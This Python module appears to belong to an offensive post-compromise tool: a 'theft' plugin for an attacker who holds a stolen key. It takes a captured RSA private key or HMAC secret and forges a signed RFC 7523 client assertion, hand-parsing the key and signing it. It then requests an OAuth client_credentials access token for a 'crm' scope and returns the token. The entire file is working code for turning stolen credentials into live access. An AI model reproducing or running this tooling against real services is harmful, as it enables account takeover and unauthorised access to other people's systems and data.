"""A client's assertion (RFC 7523), signed with whatever the burglar holds. Adds to the tools."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import time
import urllib.error
import urllib.parse
import urllib.request

from ..loot import Nothing, World
from .tools import TOOLS

PEM = "-----BEGIN PRIVATE KEY-----"
# DigestInfo of SHA-256 (RFC 8017, 9.2).
SHA256 = bytes.fromhex("3031300d060960864801650304020105000420")


@TOOLS.theft("sign")
def sign(world: World) -> str:
    """Asks a token endpoint for a token, as a client that proves itself by a signature."""
    asked = {
        "grant_type": "client_credentials",
        "scope": "crm",
        "client_id": world["client"],
        "client_assertion_type": "urn:ietf:params:oauth:client-assertion-type:jwt-bearer",
        "client_assertion": assertion(world["token"], world["client"], world["url"]),
    }
    try:
        with urllib.request.urlopen(world["url"], urllib.parse.urlencode(asked).encode(), timeout=8) as answer:
            return f"a token: {json.load(answer)['access_token']}"
    except urllib.error.HTTPError as refused:
        raise Nothing(f"{refused.code} {refused.read().decode()}") from None


def assertion(key: str, client: str, audience: str) -> str:
    """A JSON Web Token (RFC 7519) by RSA where the key is one, else by HMAC."""
    private = key.startswith(PEM)
    now = int(time.time())
    head = {"alg": "RS256", "kid": "RS256"} if private else {"alg": "HS256"}
    claims = {"iss": client, "sub": client, "aud": audience, "iat": now, "exp": now + 60, "jti": f"{time.time_ns()}"}
    said = b".".join(_base64url(json.dumps(part).encode()) for part in (head, claims))
    signature = rsa(key, said) if private else hmac.digest(key.encode(), said, "sha256")
    return b".".join((said, _base64url(signature))).decode()


def rsa(pem: str, message: bytes) -> bytes:
    """RSASSA-PKCS1-v1_5 with SHA-256 (RFC 8017, 8.2), by a key in PKCS #8."""
    _, _, inside = _der(_der(base64.b64decode("".join(pem.splitlines()[1:-1])))[0])
    _, modulus, _, exponent = (int.from_bytes(one) for one in _der(_der(inside)[0])[:4])
    length = (modulus.bit_length() + 7) // 8
    end = b"\0" + SHA256 + hashlib.sha256(message).digest()
    padded = b"\0\1" + b"\xff" * (length - len(end) - 2) + end
    return pow(int.from_bytes(padded), exponent, modulus).to_bytes(length)


def _der(raw: bytes) -> list[bytes]:
    """The contents of the elements that stand side by side (X.690)."""
    found = []
    while raw:
        at, length = 2, raw[1]
        if length > 127:
            at += length - 128
            length = int.from_bytes(raw[2:at])
        found.append(raw[at : at + length])
        raw = raw[at + length :]
    return found


def _base64url(raw: bytes) -> bytes:
    return base64.urlsafe_b64encode(raw).rstrip(b"=")
